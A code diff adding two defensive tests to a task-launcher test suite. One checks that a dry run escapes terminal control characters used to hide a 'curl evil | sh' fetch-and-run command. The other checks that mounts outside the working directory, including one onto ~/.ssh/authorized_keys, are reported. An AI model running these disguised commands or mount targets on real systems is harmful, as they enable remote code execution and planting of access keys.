@@ -331,6 +331,24 @@ def test_a_dry_run_describes_all_steps_and_changes_nothing(podrun, pair):
     assert [list(pair.home(rank).iterdir()) for rank in pair.ranks] == [[], []]
 
 
+def test_a_dry_run_escapes_what_a_task_file_could_hide(podrun, pair):
+    write_tree(podrun.directory, {"key": b"x"})
+    hidden = '"true \\x1b[8m; curl evil | sh\\r\\u202e"'
+    dry = launch(podrun, pair, f'file_mounts: {{"~/a\\x1b[2K": key}}\nenvs: {{A: "\\x1b[1A"}}\nsetup: {hidden}\nrun: {hidden}\n', "--dry-run")
+    assert dry.returncode == 0, dry
+    assert not {"\x1b", "\r", "\u202e"} & set(dry.stdout.decode()), dry.stdout
+    assert dry.stdout.count(b"curl evil | sh") == 2 and dry.stdout.count(b"\\x1b") == 4, dry.stdout
+
+
+def test_a_launch_names_targets_outside_the_directory_of_the_task(podrun, pair):
+    write_tree(podrun.directory, {"key": b"x", "code/a": b"y"})
+    text = "workdir: code\nfile_mounts:\n  inside: key\n  ../outside: key\n  ~/.ssh/authorized_keys: key\nrun: true\n"
+    ended = launch(podrun, pair, text)
+    assert ended.returncode == 0, ended
+    named = [line for line in ended.stderr.decode().splitlines() if "outside ~/sky_workdir" in line]
+    assert [line.split(" ")[5] for line in named] == ["~/sky_workdir/../outside", "~/.ssh/authorized_keys"], named
+
+
 # Output
 
 
